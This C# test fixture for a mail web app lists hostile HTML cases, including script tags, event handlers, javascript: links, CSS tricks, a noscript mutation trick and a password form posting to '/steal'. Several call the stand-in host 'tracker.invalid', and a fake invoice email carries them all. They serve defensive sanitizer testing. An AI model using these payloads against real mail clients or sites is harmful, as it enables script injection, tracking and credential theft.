using System.Text;

namespace Mailstead.Web.Tests.Fixtures;

/// <summary>
/// HTML that tries to run script, reach the network or take over the page, one trick per case. Each case names a
/// marker that must not survive sanitizing (and, in the browser, must not run or be fetched). The remote host is
/// <see cref="Tracker"/>: the browser test watches for any request to it.
/// </summary>
public static class HostileHtml
{
    public const string Tracker = "tracker.invalid";

    public sealed record Case(string Name, string Html, string Forbidden);

    public static IReadOnlyList<Case> Cases { get; } =
    [
        new("script element", "<script>console.log('pwned-script')</script>", "pwned-script"),
        new("script with src", $"<script src=\"https://{Tracker}/s.js\"></script>", "s.js"),
        new("event handler", "<img src=\"cid:missing\" onerror=\"console.log('pwned-onerror')\">", "pwned-onerror"),
        new("body onload", "<body onload=\"console.log('pwned-onload')\">", "pwned-onload"),
        new("svg with script", "<svg><script>console.log('pwned-svg')</script><circle r=\"4\"/></svg>", "pwned-svg"),
        new("svg onload", "<svg onload=\"console.log('pwned-svgload')\"></svg>", "pwned-svgload"),
        new("math with link", "<math><mtext><a href=\"javascript:console.log('pwned-math')\">m</a></mtext></math>", "pwned-math"),
        new("css expression", "<div style=\"width: expression(console.log('pwned-expression'))\">e</div>", "pwned-expression"),
        new("css url", $"<div style=\"background: url(https://{Tracker}/bg.png)\">b</div>", "bg.png"),
        new("css escape", "<div style=\"color: r\\65 d; background-image: \\75 rl(x)\">c</div>", "\\75"),
        new("style element", $"<style>@import url(https://{Tracker}/i.css); body {{ background: url(https://{Tracker}/style-bg.png) }}</style>", "i.css"),
        new("javascript link", "<a href=\"javascript:console.log('pwned-link')\">click</a>", "pwned-link"),
        new("obfuscated javascript link", "<a href=\"java&#x09;script:console.log('pwned-tab')\">tab</a>", "pwned-tab"),
        new("form", $"<form action=\"https://{Tracker}/steal\" method=\"post\"><input name=\"password\" type=\"password\"><button>Log in</button></form>", "steal"),
        new("meta refresh", $"<meta http-equiv=\"refresh\" content=\"0; url=https://{Tracker}/refresh\">", "refresh"),
        new("base href", $"<base href=\"https://{Tracker}/base/\"><a href=\"relative\">relative</a>", "base/"),
        new("iframe", $"<iframe src=\"https://{Tracker}/frame\"></iframe>", "frame"),
        new("srcdoc iframe", "<iframe srcdoc=\"<script>console.log('pwned-srcdoc')</script>\"></iframe>", "pwned-srcdoc"),
        new("object", $"<object data=\"https://{Tracker}/object.swf\"></object>", "object.swf"),
        new("embed", $"<embed src=\"https://{Tracker}/embed.swf\">", "embed.swf"),
        new("data url image", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=\">", "data:"),
        new("data url link", "<a href=\"data:text/html,<script>console.log('pwned-data')</script>\">d</a>", "pwned-data"),
        new("remote image", $"<img src=\"https://{Tracker}/pixel.gif\" width=\"1\" height=\"1\">", "pixel.gif"),
        new("link stylesheet", $"<link rel=\"stylesheet\" href=\"https://{Tracker}/link.css\">", "link.css"),
        new("background attribute", $"<table background=\"https://{Tracker}/table-bg.png\"><tr><td>t</td></tr></table>", "table-bg.png"),
        new("srcset", $"<img srcset=\"https://{Tracker}/srcset.png 2x\">", "srcset.png"),
        new("video poster", $"<video poster=\"https://{Tracker}/poster.png\"></video>", "poster.png"),
        new("noscript trick", "<noscript><p title=\"</noscript><img src=x onerror=console.log('pwned-noscript')>\"></p></noscript>", "pwned-noscript"),
        new("template", "<template><script>console.log('pwned-template')</script></template>", "pwned-template"),
    ];

    /// <summary>One HTML body with every case, and a line of text that must stay visible.</summary>
    public static string Document() =>
        "<html><head><title>pwned-title</title></head><body><p>Dear customer, <b>your invoice</b> is ready.</p>" +
        string.Concat(Cases.Select(c => c.Html)) + "</body></html>";

    /// <summary>A MIME message whose HTML part is <see cref="Document"/>, with a plain-text alternative.</summary>
    public static byte[] Message(string to) => Encoding.UTF8.GetBytes(
        "From: Mallory <mallory@example.org>\r\nTo: " + to + "\r\nSubject: Your invoice\r\nDate: Tue, 24 Nov 2026 10:00:00 +0000\r\n" +
        "Message-ID: <hostile@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n" +
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nDear customer, your invoice is ready.\r\n" +
        "--b1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + Document() + "\r\n--b1--\r\n");
}
